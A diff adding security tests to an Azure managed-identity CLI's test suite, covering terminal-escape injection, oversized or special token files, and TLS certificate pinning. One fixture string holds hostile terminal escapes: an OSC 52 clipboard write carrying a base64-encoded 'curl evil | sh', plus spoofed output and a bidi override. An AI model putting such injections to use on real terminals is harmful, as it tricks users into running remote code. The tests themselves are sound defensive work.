@@ -482,6 +482,147 @@ describe("managed-identity CLI", () => {
       }))
   })
 
+  describe("text an endpoint sent reaches the terminal escaped (issue 17, item 4)", () => {
+    const hostile = "\u001b[2J\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\r\ndoctor: 0 errors, 0 warnings in 1 ms\u202e"
+    /** Any control character but the line feeds between lines. */
+    const control = /[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u
+    const lines = (text: string) => text.split("\n")
+    const base64url = (value: unknown) => Buffer.from(JSON.stringify(value)).toString("base64url")
+
+    it.scopedLive("token: the error line on stderr is one line, its escapes shown, not run", () =>
+      Effect.gen(function*() {
+        const emulator = yield* ManagedIdentityEmulator.start()
+        yield* emulator.setFaults("Imds", [{
+          status: 400,
+          body: { error: `invalid_request${hostile}`, error_description: hostile }
+        }])
+        const outcome = yield* cli(["token", "--resource", vault], emulator.env("Imds"))
+        assert.strictEqual(outcome.code, 1)
+        const [line, ...rest] = lines(outcome.stderr)
+        assert.deepStrictEqual(rest, [""], "one line")
+        assert.notMatch(line, control)
+        assert.isTrue(line.startsWith("TokenRequestFailed: Imds answered 400 invalid_request\\x1b[2J"), line)
+      }))
+
+    it.scopedLive("doctor: claims, token type and resource echo escaped on the page; --json keeps them as sent", () =>
+      Effect.gen(function*() {
+        const emulator = yield* ManagedIdentityEmulator.start()
+        const claims = { aud: hostile, appid: hostile, oid: hostile, tid: hostile, iat: 1, exp: 2 }
+        const token = `${base64url({ alg: "none" })}.${base64url(claims)}.`
+        const answer = { access_token: token, expires_in: 3600, token_type: hostile, resource: hostile }
+        yield* emulator.setFaults("Imds", [{ status: 200, body: answer }, { status: 200, body: answer }])
+        const page = yield* cli(["doctor"], emulator.env("Imds"))
+        for (const line of lines(page.stdout)) assert.notMatch(line, control, line)
+        assert.strictEqual(lines(page.stdout).filter((line) => line.startsWith("doctor:")).length, 1)
+        assert.include(page.stdout, "\\x1b]52;c;")
+        const json = yield* cli(["doctor", "--json"], emulator.env("Imds"))
+        const report: ManagedIdentitySource.Diagnosis = JSON.parse(json.stdout)
+        assert.strictEqual(report.token?.tokenType, hostile)
+        assert.strictEqual(report.token?.claims?.oid, hostile)
+      }))
+  })
+
+  describe("a token file that is no regular file (issue 17, item 3)", () => {
+    /** Preloaded into the CLI's process: prints its peak resident memory (KiB) on stderr when it exits. */
+    const peakReporter = Path.join(bundleDirectory, "peak.cjs")
+    Fs.writeFileSync(
+      peakReporter,
+      "process.on('exit', () => process.stderr.write('\\npeak ' + process.resourceUsage().maxRSS + '\\n'))"
+    )
+    const files: ReadonlyArray<readonly [string, (directory: string) => string]> = [
+      ["a FIFO", (directory) => {
+        ChildProcess.execFileSync("mkfifo", [Path.join(directory, "token")])
+        return Path.join(directory, "token")
+      }],
+      ["/dev/zero", () => "/dev/zero"],
+      ["a 1 GiB file", (directory) => {
+        Fs.writeFileSync(Path.join(directory, "token"), "")
+        Fs.truncateSync(Path.join(directory, "token"), 2 ** 30)
+        return Path.join(directory, "token")
+      }]
+    ]
+    for (const [name, make] of files) {
+      it.scopedLive(`token exits 1 with a SourceUnavailable naming AZURE_FEDERATED_TOKEN_FILE: ${name}`, () =>
+        Effect.gen(function*() {
+          const emulator = yield* ManagedIdentityEmulator.start()
+          const directory = yield* Effect.acquireRelease(
+            Effect.sync(() => Fs.mkdtempSync(Path.join(Os.tmpdir(), "managed-identity-token-file-"))),
+            (path) => Effect.sync(() => Fs.rmSync(path, { recursive: true, force: true }))
+          )
+          const tokenFile = make(directory)
+          const outcome = yield* runNode(
+            ["--require", peakReporter, bundle, "token", "--resource", vault],
+            { ...emulator.env("WorkloadIdentity"), AZURE_FEDERATED_TOKEN_FILE: tokenFile },
+            { timeout: 10_000 }
+          )
+          assert.strictEqual(outcome.code, 1, outcome.stderr)
+          assert.strictEqual(outcome.stdout, "")
+          assert.match(
+            outcome.stderr,
+            new RegExp(
+              `^SourceUnavailable: WorkloadIdentity is not available at .*: AZURE_FEDERATED_TOKEN_FILE ${
+                tokenFile.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&")
+              } is (not a regular file|larger than 65536 bytes)`
+            )
+          )
+          const peakKiB = Number(/\npeak (\d+)\n/.exec(outcome.stderr)?.[1])
+          assert.isBelow(peakKiB, 200 * 1024, "the CLI's peak memory stayed under 200 MiB")
+          assert.strictEqual(yield* emulator.requestCount("WorkloadIdentity"), 0)
+        }))
+    }
+  })
+
+  describe("NODE_TLS_REJECT_UNAUTHORIZED=0 turns off no pin (issue 17, item 6)", () => {
+    const insecure = { NODE_TLS_REJECT_UNAUTHORIZED: "0" }
+
+    const impostors: ReadonlyArray<
+      readonly [string, (emulator: ManagedIdentityEmulator.Emulator) => Record<string, string>, RegExp]
+    > = [
+      [
+        "the token proxy under another CA than AZURE_KUBERNETES_CA_FILE's",
+        (emulator) => ({ AZURE_KUBERNETES_CA_FILE: emulator.workloadIdentity.caFile }),
+        /UNABLE_TO_VERIFY_LEAF_SIGNATURE/
+      ],
+      [
+        "the token proxy under another name than AZURE_KUBERNETES_SNI_NAME",
+        () => ({ AZURE_KUBERNETES_SNI_NAME: "impostor.invalid" }),
+        /ERR_TLS_CERT_ALTNAME_INVALID/
+      ]
+    ]
+    for (const [name, change, code] of impostors) {
+      it.scopedLive(`${name}: InvalidIdentity, and the assertion is never sent`, () =>
+        Effect.gen(function*() {
+          const emulator = yield* ManagedIdentityEmulator.start()
+          const { NODE_EXTRA_CA_CERTS: _, ...env } = emulator.env("WorkloadIdentity", { identityBindings: true })
+          const outcome = yield* cli(
+            ["token", "--resource", vault, "--identity-bindings"],
+            { ...env, ...change(emulator), ...insecure }
+          )
+          assert.strictEqual(outcome.code, 1, outcome.stdout)
+          assert.match(
+            outcome.stderr,
+            /^InvalidIdentity: WorkloadIdentity: the server certificate of https:\/\/127\.0\.0\.1:/m
+          )
+          assert.match(outcome.stderr, code)
+          assert.strictEqual(yield* emulator.requestCount("WorkloadIdentity"), 0, "the impostor received nothing")
+        }))
+    }
+
+    it.scopedLive("Service Fabric under another certificate than the pinned one: a mismatch, and the secret never sent", () =>
+      Effect.gen(function*() {
+        const emulator = yield* ManagedIdentityEmulator.start()
+        const outcome = yield* cli(["token", "--resource", vault], {
+          ...emulator.env("ServiceFabric"),
+          IDENTITY_SERVER_THUMBPRINT: "ab".repeat(20),
+          ...insecure
+        })
+        assert.strictEqual(outcome.code, 1, outcome.stdout)
+        assert.match(outcome.stderr, /^ServiceFabricCertificateMismatch: /m)
+        assert.strictEqual(yield* emulator.requestCount("ServiceFabric"), 0, "the impostor received nothing")
+        assert.notInclude(outcome.stderr, emulator.secrets.serviceFabricSecret)
+      }))
+  })
+
   describe("off Azure", () => {
     it.scopedLive("a silent IMDS: token exits 1 with SourceUnavailable within 1.5 s, process start included", () =>
       Effect.gen(function*() {
@@ -544,4 +685,58 @@ describe("managed-identity CLI", () => {
       assert.include(outcomes[4].stdout, "$ demo")
       assert.include(outcomes[5].stdout, "$ doctor [--resource uri] [--budget seconds]")
     }))
+
+  describe("terminals (issue 17, item 8)", () => {
+    const escape = String.fromCharCode(0x1b)
+
+    it.live("no ANSI escape when stdout and stderr are not terminals: help pages and usage errors included", () =>
+      Effect.gen(function*() {
+        const outcomes = yield* Effect.all([
+          cli(["--help"], {}),
+          cli(["doctor", "--help"], {}),
+          cli(["token"], {}),
+          cli(["token", "--nope"], {})
+        ], { concurrency: "unbounded" })
+        assert.deepStrictEqual(outcomes.map((outcome) => outcome.code), [0, 0, 2, 2])
+        assert.include(outcomes[0].stdout, "USAGE")
+        assert.include(outcomes[2].stderr, "--resource")
+        for (const outcome of outcomes) assert.notInclude(outcome.stdout + outcome.stderr, escape)
+      }))
+
+    /** `node <bundle> <args>` on a pseudo-terminal (util-linux `script`), its output as the terminal showed it. */
+    const onTerminal = (args: string, env: Record<string, string>) =>
+      Effect.async<string>((resume) => {
+        const child = ChildProcess.execFile(
+          "script",
+          ["-qec", `${process.execPath} ${bundle} ${args}`, "/dev/null"],
+          { env: childEnv(env), timeout: 15_000 },
+          (_, stdout) => resume(Effect.succeed(stdout))
+        )
+        return Effect.sync(() => child.kill())
+      })
+
+    it.live("on a terminal, help is in colour unless NO_COLOR is set", () =>
+      Effect.gen(function*() {
+        const [coloured, plain] = yield* Effect.all([
+          onTerminal("--help", {}),
+          onTerminal("--help", { NO_COLOR: "1" })
+        ], { concurrency: "unbounded" })
+        assert.include(coloured, `${escape}[`)
+        assert.include(plain, "USAGE")
+        assert.notInclude(plain, escape)
+      }))
+
+    it.live("--wizard off a terminal: a usage error at once instead of a prompt that waits forever", () =>
+      Effect.gen(function*() {
+        const outcome = yield* runNode([bundle, "--wizard"], {}, { timeout: 10_000 })
+        assert.strictEqual(outcome.code, 2, outcome.stdout)
+        assert.strictEqual(outcome.stdout, "")
+        assert.strictEqual(
+          outcome.stderr,
+          "usage: --wizard asks its questions on a terminal, and stdin or stdout is not one: give the flags instead\n"
+        )
+        const piped = yield* onTerminal("--wizard | cat", {})
+        assert.include(piped, "usage: --wizard asks its questions on a terminal, and stdin or stdout is not one")
+      }))
+  })
 })
